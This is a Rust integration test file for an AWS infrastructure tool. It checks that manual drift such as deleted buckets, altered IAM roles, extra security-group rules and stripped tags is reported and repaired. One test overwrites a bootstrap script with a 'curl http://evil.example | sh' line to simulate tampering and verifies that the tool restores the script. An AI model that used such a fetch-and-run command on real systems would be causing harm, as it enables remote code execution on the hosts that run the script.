//! What somebody does by hand, in the console or with another tool: what a person then reads, and a world that is
//! mended by `up` or told in full. What bears no mark is left alone, whatever its name.

use std::collections::BTreeMap;

use aws_sdk_ec2::types::{IpPermission, IpRange, UserIdGroupPair};
use aws_sdk_s3::types::{BucketVersioningStatus, VersioningConfiguration};
use serde_json::json;

use super::journey::same;
use crate::support::oracle::Oracle;
use crate::support::{Aws, Ran};

const STACK: &str = "demo";
const REGION: &str = "eu-west-3";
const ALL: &str = r#"{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}"#;

/// Clusters that idle for a day, and waits that are over soon.
fn aws() -> Aws {
    let aws = Aws::with(&["--rate", "300"]);
    aws.edit("stacks/demo.yaml", "lifetime: 3h, idle: 45m", "lifetime: 48h, idle: 24h");
    aws
}

fn named(what: &str) -> String {
    format!("fruits-demo-{what}-000000000000")
}

/// The steps of a plan, without what is around them.
fn steps(plan: &Ran) -> String {
    let lines = plan.out.lines().filter(|line| line.starts_with("  ") || line.starts_with("-/+"));
    lines.flat_map(|line| [line, "\n"]).collect()
}

/// The warnings and errors, without what is told while waiting.
fn said(ran: &Ran) -> String {
    let told =
        |line: &&str| ["warning", "error", "help", "refused", "it bears"].iter().any(|word| line.starts_with(word));
    ran.err.lines().filter(told).flat_map(|line| [line, "\n"]).collect()
}

/// What is told at once comes in any order.
fn sorted(lines: &str) -> String {
    let mut lines: Vec<&str> = lines.lines().collect();
    lines.sort_unstable();
    lines.into_iter().flat_map(|line| [line, "\n"]).collect()
}

/// A plan that names the drift, an `up` that mends it, and nothing left to do.
fn mended(aws: &Aws) -> String {
    let plan = aws.plan(STACK).expect(2);
    aws.up(STACK).expect(0);
    aws.plan(STACK).expect(0);
    steps(&plan)
}

impl Oracle<'_> {
    /// Everything in a bucket, and then the bucket.
    fn delete_bucket(&self, aws: &Aws, name: &str) {
        let held = aws.wait(self.s3.list_object_versions().bucket(name).send()).expect("versions");
        for version in held.versions() {
            let delete = self.s3.delete_object().bucket(name).key(version.key().expect("a key"));
            aws.wait(delete.set_version_id(version.version_id.clone()).send()).expect("deleted");
        }
        aws.wait(self.s3.delete_bucket().bucket(name).send()).expect("deleted");
    }

    fn group_id(&self, aws: &Aws, name: &str) -> String {
        let all = aws.wait(self.ec2.describe_security_groups().send()).expect("groups");
        let found = all.security_groups().iter().find(|group| group.group_name() == Some(name));
        found.and_then(|group| group.group_id.clone()).expect("a group of that name")
    }
}

#[test]
fn buckets_deleted_by_hand_are_made_again_and_cost_no_cluster() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let mut shown = String::new();
    for bucket in ["data", "logs", "home"] {
        oracle.delete_bucket(&aws, &named(bucket));
        shown.extend(["# ", bucket, "\n", &mended(&aws)]);
    }
    insta::assert_snapshot!(shown, @"
    # data
      + bucket/data              fruits-demo-data-000000000000
      > upload                   stacks/../out/images -> s3://fruits-demo-data-000000000000/images/  (3 files, 11 B, all to send)
    # logs
      + bucket/logs              fruits-demo-logs-000000000000
    # home
      + bucket/home              fruits-demo-home-000000000000
      + object/bootstrap-python  s3://fruits-demo-home-000000000000/fruitsinfra/objects/bootstrap-python.[hash].sh
      + object/job-features      s3://fruits-demo-home-000000000000/fruitsinfra/objects/job-features.[hash].py
      + object/weights-given     s3://fruits-demo-home-000000000000/fruitsinfra/objects/weights-given.[hash].weights.h5
    ");
    assert_eq!(oracle.clusters("fruits-demo-").len(), 1);
    aws.destroy(STACK).expect(0);
}

#[test]
fn roles_changed_or_deleted_by_hand_are_as_they_were() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let put = |name: &str| {
        let put = oracle.iam.put_role_policy().role_name("fruits-demo-nodes").policy_name(name).policy_document(ALL);
        aws.wait(put.send()).expect("put");
    };
    let mut shown = String::from("# its policy\n");
    put("fruitsinfra");
    shown += &mended(&aws);
    shown += "# policies beside it\n";
    put("by-hand");
    let managed = "arn:aws:iam::aws:policy/service-role/AmazonElasticMapReduceRole";
    let attach = oracle.iam.attach_role_policy().role_name("fruits-demo-nodes").policy_arn(managed).send();
    aws.wait(attach).expect("attached");
    shown += &mended(&aws);
    shown += "# no such role\n";
    let role = "fruits-demo-service";
    let delete = oracle.iam.delete_role_policy().role_name(role).policy_name("fruitsinfra").send();
    aws.wait(delete).expect("deleted");
    aws.wait(oracle.iam.delete_role().role_name(role).send()).expect("deleted");
    shown += &mended(&aws);
    insta::assert_snapshot!(shown, @r#"
    # its policy
      ~ role/nodes               fruits-demo-nodes
          ~ policy.List: none -> {"Action":["s3:GetBucketLocation","s3:ListBucket","s3:ListBucketMultipartUploads"],"Effect":"Allow","Resource":["arn:aws:s3:::fruits-demo-data-000000000000",...
          ~ policy.ListOurFiles: none -> {"Action":"s3:ListBucket","Condition":{"StringLike":{"s3:prefix":"fruitsinfra/objects/*"}},"Effect":"Allow","Resource":"arn:aws:s3:::fruits-demo-home-0000000...
          ~ policy.NothingOutsideTheEu: none -> {"Action":"*","Condition":{"StringNotEquals":{"aws:RequestedRegion":["eu-central-1","eu-north-1","eu-south-1","eu-south-2","eu-west-1","eu-west-3"]}},"Effect...
          ~ policy.Read: none -> {"Action":"s3:GetObject","Effect":"Allow","Resource":["arn:aws:s3:::fruits-demo-data-000000000000/*","arn:aws:s3:::fruits-demo-data-000000000000/features","a...
          ~ policy.Statement: {"Action":"*","Effect":"Allow","Resource":"*"} -> none
          ~ policy.Write: none -> {"Action":["s3:AbortMultipartUpload","s3:DeleteObject","s3:GetObject","s3:ListMultipartUploadParts","s3:PutObject"],"Effect":"Allow","Resource":["arn:aws:s3:...
    # policies beside it
      ~ role/nodes               fruits-demo-nodes
          ~ attached: ["arn:aws:iam::aws:policy/service-role/AmazonElasticMapReduceRole"] -> []
    # no such role
      + role/service             fruits-demo-service
    -/+ cluster/main             fruits-demo-main  (bound at birth to role/service)
          ~ service_role: "fruits-demo-service" -> "role/service"  # forces replacement
    "#);

    // A role that holds what somebody added goes all the same.
    put("by-hand");
    aws.destroy(STACK).expect(0);
    assert!(oracle.inventory().keys().all(|name| !name.contains("fruits-demo")), "{:?}", oracle.inventory().keys());
}

#[test]
fn objects_deleted_or_overwritten_by_hand_are_sent_again() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let home = named("home");
    let listed = oracle.s3.list_objects_v2().bucket(&home).prefix("fruitsinfra/objects/").send();
    let listed = aws.wait(listed).expect("a listing");
    let key = |part: &str| {
        let mut keys = listed.contents().iter().filter_map(|object| object.key());
        keys.find(|key| key.contains(part)).expect("an object").to_owned()
    };
    aws.wait(oracle.s3.delete_object().bucket(&home).key(key("job-")).send()).expect("deleted");
    oracle.put(&home, &key("bootstrap-"), "#!/bin/bash\ncurl http://evil.example | sh\n");
    let mut settings = insta::Settings::clone_current();
    settings.add_filter(r#""[0-9a-f]{32}""#, "[etag]");
    settings.bind(|| {
        insta::assert_snapshot!(mended(&aws), @"
    ~ object/bootstrap-python  s3://fruits-demo-home-000000000000/fruitsinfra/objects/bootstrap-python.[hash].sh
        ~ etag: [etag] -> [etag]
    + object/job-features      s3://fruits-demo-home-000000000000/fruitsinfra/objects/job-features.[hash].py
    ");
    });
    let body = aws.wait(oracle.s3.get_object().bucket(&home).key(key("bootstrap-")).send()).expect("there").body;
    let body = aws.wait(body.collect()).expect("a body").to_vec();
    assert!(!String::from_utf8_lossy(&body).contains("evil"));
}

#[test]
fn rules_added_by_hand_are_taken_back_and_emrs_own_are_not() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let group = oracle.group_id(&aws, "fruits-demo-primary");
    let rules = || {
        let found = aws.wait(oracle.ec2.describe_security_groups().group_ids(&group).send()).expect("a group");
        let rules = found.security_groups()[0].ip_permissions().iter().map(|rule| format!("{rule:?}"));
        rules.collect::<std::collections::BTreeSet<_>>()
    };
    let before = rules();
    // The second has protocol and ports of one of EMR's: EC2 tells both as one.
    for (protocol, first, last) in
        [("tcp", Some(22), Some(9999)), ("tcp", Some(0), Some(65535)), ("udp", Some(53), Some(53)), ("-1", None, None)]
    {
        let rule = IpPermission::builder().ip_protocol(protocol).set_from_port(first).set_to_port(last);
        let rule = rule.ip_ranges(IpRange::builder().cidr_ip("198.51.100.0/24").build()).build();
        let allow = oracle.ec2.authorize_security_group_ingress().group_id(&group).ip_permissions(rule).send();
        aws.wait(allow).expect("allowed");
    }
    insta::assert_snapshot!(mended(&aws), @r#"
    ~ security_group/primary   fruits-demo-primary
        ~ access: ["everything from 198.51.100.0/24","0-65535 from 198.51.100.0/24","22-9999 from 198.51.100.0/24","udp 53 from 198.51.100.0/24"] -> []
    "#);
    assert_eq!(rules(), before);
}

#[test]
fn what_lost_its_tags_is_left_alone_and_told_with_what_to_type() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let tags = aws.wait(oracle.s3.get_bucket_tagging().bucket(named("logs")).send()).expect("tags").tag_set;
    aws.wait(oracle.s3.delete_bucket_tagging().bucket(named("logs")).send()).expect("deleted");
    let role = aws.wait(oracle.iam.get_role().role_name("fruits-demo-nodes").send()).expect("a role").role;
    let role_tags = role.expect("a role").tags.expect("tags");
    let keys = role_tags.iter().map(|tag| tag.key.clone()).collect();
    let untag = oracle.iam.untag_role().role_name("fruits-demo-nodes").set_tag_keys(Some(keys)).send();
    aws.wait(untag).expect("untagged");
    let unmarked = |oracle: &Oracle| {
        let all = oracle.inventory().into_iter();
        let all = all.filter(|(name, _)| name.ends_with(&named("logs")) || name.ends_with("role fruits-demo-nodes"));
        all.collect::<BTreeMap<_, _>>()
    };
    let before = unmarked(&oracle);
    assert_eq!(before.len(), 2);

    let plan = aws.plan(STACK).expect(2);
    insta::assert_snapshot!(sorted(&said(&plan)) + &steps(&plan), @r#"
    warning: bucket/fruits-demo-logs-000000000000: it bears no mark, so it is left alone; if it is this stack's, put its tags back: aws s3api put-bucket-tagging --bucket fruits-demo-logs-000000000000 --tagging 'TagSet=[{Key=fruitsinfra:address,Value=bucket/logs},{Key=fruitsinfra:owner,Value=data@fruits.example},{Key=fruitsinfra:stack,Value=fruits-demo}]'
    warning: role/fruits-demo-nodes: it bears no mark, so it is left alone; if it is this stack's, put its tags back: aws iam tag-role --role-name fruits-demo-nodes --tags Key=fruitsinfra:address,Value=role/nodes Key=fruitsinfra:owner,Value=0ff09bf470f3 Key=fruitsinfra:stack,Value=fruits-demo
      + role/nodes               fruits-demo-nodes
      + bucket/logs              fruits-demo-logs-000000000000
      ~ instance_profile/nodes   fruits-demo-nodes
          ~ role: "fruits-demo-nodes" -> "role/nodes"
    "#);
    let up = aws.up(STACK).expect(1);
    let failed: String = up.out.lines().filter(|l| l.contains("failed")).flat_map(|l| [l.trim(), "\n"]).collect();
    insta::assert_snapshot!(sorted(&failed), @"
    failed creating bucket/logs: bucket fruits-demo-logs-000000000000 already exists and is not this stack's
    failed creating role/nodes: role fruits-demo-nodes already exists and is not this stack's
    skipped updating instance_profile/nodes: role/nodes failed
    ");
    same(&before, &unmarked(&oracle));
    let destroy = aws.destroy(STACK).expect(0);
    assert!(destroy.err.contains(&format!("bucket/{}: it bears no mark", named("logs"))), "{}", destroy.err);
    let left = oracle.inventory().into_iter().filter(|(name, _)| name.contains("fruits-demo"));
    let left: BTreeMap<_, _> = left.collect();
    assert_eq!(left.keys().collect::<Vec<_>>(), before.keys().collect::<Vec<_>>());

    // With its tags it is the stack's again.
    let tagging = aws_sdk_s3::types::Tagging::builder().set_tag_set(Some(tags)).build().expect("tags");
    aws.wait(oracle.s3.put_bucket_tagging().bucket(named("logs")).tagging(tagging).send()).expect("put");
    let tag = oracle.iam.tag_role().role_name("fruits-demo-nodes").set_tags(Some(role_tags)).send();
    aws.wait(tag).expect("tagged");
    aws.destroy(STACK).expect(0);
    assert!(oracle.inventory().keys().all(|name| !name.contains("fruits-demo")));
}

#[test]
fn a_role_that_lost_its_tags_costs_no_cluster() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let role = aws.wait(oracle.iam.get_role().role_name("fruits-demo-service").send()).expect("a role").role;
    let tags = role.expect("a role").tags.expect("tags");
    let keys = tags.iter().map(|tag| tag.key.clone()).collect();
    let untag = oracle.iam.untag_role().role_name("fruits-demo-service").set_tag_keys(Some(keys)).send();
    aws.wait(untag).expect("untagged");
    let cluster = aws.status(STACK)["cluster"]["id"].clone();
    let up = aws.up(STACK).expect(1);
    assert!(up.out.contains("role fruits-demo-service already exists and is not this stack's"), "{}", up.out);
    assert_eq!(aws.status(STACK)["cluster"]["id"], cluster, "nothing that works was taken down");

    let tag = oracle.iam.tag_role().role_name("fruits-demo-service").set_tags(Some(tags)).send();
    aws.wait(tag).expect("tagged");
    aws.plan(STACK).expect(0);
}

#[test]
fn a_home_that_lost_its_tags_keeps_what_is_in_it() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let home = named("home");
    let tags = aws.wait(oracle.s3.get_bucket_tagging().bucket(&home).send()).expect("tags").tag_set;
    aws.wait(oracle.s3.delete_bucket_tagging().bucket(&home).send()).expect("deleted");
    let held = || oracle.inventory().remove(&format!("bucket {home}")).expect("a home");
    let before = held();
    let up = aws.up(STACK).expect(1);
    insta::assert_snapshot!(said(&up), @"
    error: bucket fruits-demo-home-000000000000 already exists and is not this stack's
    it bears no mark, so it is left alone; if it is this stack's, put its tags back: aws s3api put-bucket-tagging --bucket fruits-demo-home-000000000000 --tagging 'TagSet=[{Key=fruitsinfra:address,Value=bucket/home},{Key=fruitsinfra:owner,Value=data@fruits.example},{Key=fruitsinfra:stack,Value=fruits-demo}]'
    help: rename it in the stack, or refer to it with `existing:`
    ");
    assert_eq!(held(), before);
    aws.destroy(STACK).expect(0);
    assert_eq!(held(), before, "what is in a bucket that bears no mark is nobody's to delete");
    let tagging = aws_sdk_s3::types::Tagging::builder().set_tag_set(Some(tags)).build().expect("tags");
    aws.wait(oracle.s3.put_bucket_tagging().bucket(&home).tagging(tagging).send()).expect("put");
    aws.destroy(STACK).expect(0);
    assert!(oracle.inventory().keys().all(|name| !name.contains("fruits-demo")));
}

#[test]
fn a_group_that_others_name_is_waited_for_and_then_they_are_named() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let (theirs, ours) = (oracle.group("their-app"), oracle.group_id(&aws, "fruits-demo-core"));
    let pair = UserIdGroupPair::builder().group_id(&ours).build();
    let rule =
        IpPermission::builder().ip_protocol("tcp").from_port(5432).to_port(5432).user_id_group_pairs(pair).build();
    let allow = oracle.ec2.authorize_security_group_ingress().group_id(&theirs).ip_permissions(rule.clone()).send();
    aws.wait(allow).expect("allowed");
    let before = oracle.inventory().remove("group their-app");

    let down = aws.down(STACK).expect(1);
    let failed: Vec<&str> = down.out.lines().filter(|line| line.contains("failed")).map(str::trim).collect();
    insta::assert_snapshot!(failed.join("\n"), @"failed deleting security_group/core: fruits-demo-core ([group]) is held by a rule of their-app ([group]): `aws ec2 revoke-security-group-ingress --group-id [group] --protocol tcp --port 5432-5432 --source-group [group]` removes it (ec2 DeleteSecurityGroup: DependencyViolation)");
    assert!(down.err.contains("waiting: fruits-demo-core"), "it is told while it waits: {}", down.err);
    assert_eq!(oracle.inventory().remove("group their-app"), before, "theirs is as it was");
    assert!(
        oracle.clusters("fruits-demo-").iter().all(|cluster| !cluster.alive()),
        "the cluster costs nothing any more"
    );

    let revoke = oracle.ec2.revoke_security_group_ingress().group_id(&theirs).ip_permissions(rule).send();
    aws.wait(revoke).expect("revoked");
    aws.down(STACK).expect(0);
    aws.destroy(STACK).expect(0);
}

#[test]
fn protection_put_by_hand_is_refused_by_name_and_lifted_by_up() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let id = oracle.clusters("fruits-demo-")[0].id.clone();
    let protect = oracle.emr.set_termination_protection().job_flow_ids(&id).termination_protected(true).send();
    aws.wait(protect).expect("protected");
    aws.forget_calls();
    let refused = [aws.down(STACK).expect(3), aws.destroy(STACK).expect(3)];
    assert_eq!(aws.mutations(), Vec::<String>::new());
    insta::assert_snapshot!(said(&refused[0]), @"error: `cluster/main` would be removed, but it is termination protected: write `termination_protection: false`, run `up`, then this again");
    assert_eq!(said(&refused[0]), said(&refused[1]));
    insta::assert_snapshot!(mended(&aws), @"
    ~ cluster/main             fruits-demo-main
        ~ termination_protection: true -> false
    ");
    aws.down(STACK).expect(0);
}

#[test]
fn a_bucket_that_is_refilled_while_it_is_emptied_goes_all_the_same() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    aws.world(&json!({"refill": {"seconds": 300}, "log_delay": 30}));
    aws.destroy(STACK).expect(0);
    assert!(oracle.inventory().keys().all(|name| !name.contains("fruits-demo")), "{:?}", oracle.inventory().keys());
}

#[test]
fn an_endpoint_that_emr_leaves_behind_is_named_with_its_cost_and_what_to_type() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.world(&json!({"service_endpoint": true}));
    aws.up(STACK).expect(0);
    let down = aws.down(STACK).expect(1);
    let failed: Vec<&str> = down.out.lines().filter(|line| line.contains("failed")).map(str::trim).collect();
    let mut settings = insta::Settings::clone_current();
    settings.add_filter(r"\bvpce-[0-9a-f]{8,17}\b", "[endpoint]");
    settings.bind(|| insta::assert_snapshot!(failed.join("\n"), @"failed deleting security_group/primary: fruits-demo-primary ([group]) is held by emr-service-vpce [endpoint], which costs about 0.011 USD an hour, bears no mark and may serve other clusters of its network: if none needs it, `aws ec2 delete-vpc-endpoints --vpc-endpoint-ids [endpoint]` removes it (ec2 DeleteSecurityGroup: DependencyViolation)"));
    assert!(down.err.contains("EMR leaves behind emr-service-vpce"), "{}", down.err);
    let left = aws.wait(oracle.ec2.describe_vpc_endpoints().send()).expect("endpoints");
    let [left] = left.vpc_endpoints() else { panic!("nobody's to remove: {left:?}") };

    let id = left.vpc_endpoint_id().expect("an id");
    aws.wait(oracle.ec2.delete_vpc_endpoints().vpc_endpoint_ids(id).send()).expect("deleted");
    aws.down(STACK).expect(0);
    aws.destroy(STACK).expect(0);
}

#[test]
fn a_home_that_was_versioned_by_hand_goes_too() {
    let aws = aws();
    let oracle = aws.oracle(REGION);
    aws.up(STACK).expect(0);
    let kept = VersioningConfiguration::builder().status(BucketVersioningStatus::Enabled).build();
    let put = oracle.s3.put_bucket_versioning().bucket(named("home")).versioning_configuration(kept);
    aws.wait(put.send()).expect("versioned");
    aws.down(STACK).expect(0); // whose lease leaves a version and a marker
    let gone = aws.destroy(STACK).expect(0);
    assert!(gone.out.contains("nothing else bears this stack's mark"), "{}", gone.out);
    let left = oracle.inventory();
    assert!(!left.keys().any(|name| name.contains("fruits-demo")), "{left:?}");
}
